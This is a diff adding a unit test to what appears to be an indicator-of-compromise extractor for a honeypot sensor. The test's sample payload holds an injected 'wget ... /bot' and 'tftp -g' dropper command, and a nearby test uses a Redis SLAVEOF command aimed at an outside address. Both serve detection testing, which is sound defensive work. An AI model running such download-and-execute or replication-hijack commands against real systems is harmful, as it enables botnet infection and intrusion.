@@ -102,6 +102,19 @@ describe('false-positive traps', () => {
     expect(iocs).toMatchObject({ urls: [], ips: [], domains: [] });
   });
 
+  it('reports a download from the sensor\'s own address, and nothing else of it', () => {
+    const payload = 'POST /cgi-bin/x HTTP/1.1\r\nHost: 198.51.100.50\r\n'
+      + 'Referer: http://198.51.100.50/r\r\n\r\n'
+      + 'cmd=wget http://198.51.100.50/bot -O b; tftp -g -r t 198.51.100.50; ping 198.51.100.50';
+    const iocs = extractIocs(event(payload, { dst_ip: '198.51.100.50',
+      fields: { host: '198.51.100.50' } }));
+    expect(iocs.urls).toEqual(['http://198.51.100.50/bot', 'tftp://198.51.100.50/t']);
+    expect(iocs.ips).toEqual(['198.51.100.50']);
+    expect(iocs.downloads).toEqual(['wget http://198.51.100.50/bot -O b',
+      'tftp -g -r t 198.51.100.50']);
+    expect(iocs.files).toEqual(['bot', 'b', 't']);
+  });
+
   it('takes the SLAVEOF address of a Redis command', () => {
     const iocs = extractIocs(event('', { commands: ['SLAVEOF 198.51.100.211 8886'] }));
     expect(iocs.ips).toEqual(['198.51.100.211']);
